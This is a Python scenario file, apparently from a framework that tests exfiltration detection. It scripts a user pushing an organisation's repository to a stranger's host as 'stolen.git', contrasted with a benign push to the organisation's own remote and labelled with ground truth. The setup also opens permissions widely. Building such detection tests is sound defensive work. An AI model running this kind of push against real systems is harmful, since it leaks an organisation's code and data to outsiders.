"""A repository pushed to a remote that is not the organisation's."""

from __future__ import annotations

from ..props import DESIGN_BYTES
from ..scenario import STRANGER, Person, Prepared, Scenario, Step, Truth
from ..twins import Draw

_WORK = f"""\
test -e /srv/repo/.git && exit
git init -q --bare /srv/origin.git
git init -q /srv/repo && cd /srv/repo
head -c {DESIGN_BYTES} /dev/urandom > model.bin
git add model.bin
git -c user.name=x -c user.email=x@example.org commit -qm first
chmod -R a+rwX /srv/repo /srv/origin.git
git config --system --add safe.directory '*'
"""
_PUSH = "git push -q {remote} HEAD:refs/heads/{branch}"


def _twin(draw: Draw) -> tuple[Step, ...]:
    push = _PUSH.format(remote="/srv/origin.git", branch=f"gina-{draw.name()}")
    return (Step("gina", f"ssh gina@app 'cd /srv/repo && {push}'"),)


SCENARIO = Scenario(
    number=5,
    title="git push to a foreign remote",
    people=(Person("gerd", ("app",)), Person("gina", ("app",))),
    prepared=(Prepared("app", _WORK),),
    steps=(
        Step(
            "gerd",
            f"ssh drop@{STRANGER} git init -q --bare stolen.git; ssh gerd@app 'cd /srv/repo && "
            f"{_PUSH.format(remote=f'drop@{STRANGER}:stolen.git', branch='gerd')}'",
        ),
    ),
    twin_title="the same commits pushed to the organisation's own repository",
    twin=_twin,
    truth=Truth(
        "gerd", ("app",), ("git-push-foreign", "upload-new-destination"), DESIGN_BYTES, STRANGER, tolerance=10
    ),
)
